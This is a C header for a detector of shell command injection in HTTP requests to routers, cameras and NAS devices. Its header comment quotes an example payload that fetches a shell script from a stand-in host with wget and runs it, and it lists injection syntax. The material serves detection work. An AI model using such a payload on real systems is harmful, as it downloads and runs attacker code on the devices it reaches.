/*
 * rce.h - shell command injection beyond Shellshock (the `rce` protocol).
 *
 * +--------------------------------------------------------------------+
 * | Router, camera and NAS exploits put shell syntax into a query      |
 * | parameter, form field, path segment, JSON or XML value or header:  |
 * | "cmd=;wget http://x/a.sh;sh a.sh", "$(...)", backquotes, "${IFS}"  |
 * | for spaces, "%0a".  Every value of a request is visited as the     |
 * | Shellshock scanner visits it (ss_http_walk.c), and an injection is |
 * | reported only where shell syntax starts a new command (";", "|",   |
 * | "&&", "||", a line break, "$(", a backquote) and what follows      |
 * | reads as a command the command table knows, or a path.  Names that |
 * | are also ordinary words (SS_CMDF_WORD: cat, date, id, ping) need   |
 * | shell-like arguments too, except inside "$(" or backquotes, so     |
 * | prose, SQL, lists and ";jsessionid=" stay clean.  The injected     |
 * | text is graded by the same parser, command table and IOC rules as  |
 * | Shellshock (ss_analyze_commands); a value holding a Shellshock     |
 * | opener is Shellshock's, not reported here.                         |
 * +--------------------------------------------------------------------+
 */
#ifndef RCE_H
#define RCE_H

#include "ss.h"

/* Cheap prefilter: false when buf certainly holds none of the shell
 * syntax an injection needs (plain or percent-encoded).  One pass. */
bool rce_http_may_contain(const uint8_t *buf, size_t len);

/* Scans one complete HTTP request for injections.  Resets res first; each
 * injection is one payload: vector, header = the parameter, header or
 * cookie name (NULL for a path segment or a whole query or body),
 * payload = the decoded value, commands, grade, urls and hosts from the
 * injected text, cves 0.  Returns res->n_payloads. */
size_t rce_scan_http_request(const ss_rules_t *rules, const uint8_t *buf, size_t len,
                             ss_result_t *res);

/* Where the injected text starts in the decoded value v[0..n): the offset
 * of the shell syntax that starts the first injected command, or n when
 * there is none. */
size_t rce_find_injection(const ss_rules_t *rules, const char *v, size_t n);

/* ---- known exploits (rce.exploit) ---- */

/* A known exploit's request: method ("" or NULL: any), path pattern ('*'
 * matches any run of characters; the path is the request target before
 * '?', as sent), and the parameter or header holding the injection (""
 * or NULL: any; header names compare case-insensitively). */
typedef struct {
    const char *name; /* an advisory or CVE id, e.g. "CVE-2017-17215" */
    const char *method;
    const char *path;
    const char *param;
} rce_exploit_t;

/* The default table: well-documented router, camera, NAS and appliance
 * command injections (rce_exploits.c). */
extern const rce_exploit_t rce_exploit_table[];
extern const size_t rce_exploit_table_len;

/* Whether a row is usable; on error returns false and points *error at a
 * sentence saying why. */
bool rce_exploit_check(const rce_exploit_t *row, const char **error);

/* Names each payload of res (from rce_scan_http_request on buf) after the
 * first matching row: the user's rows first, then the default table. */
void rce_name_exploits(const rce_exploit_t *user, size_t n_user, const uint8_t *buf, size_t len,
                       ss_result_t *res);

#endif /* RCE_H */
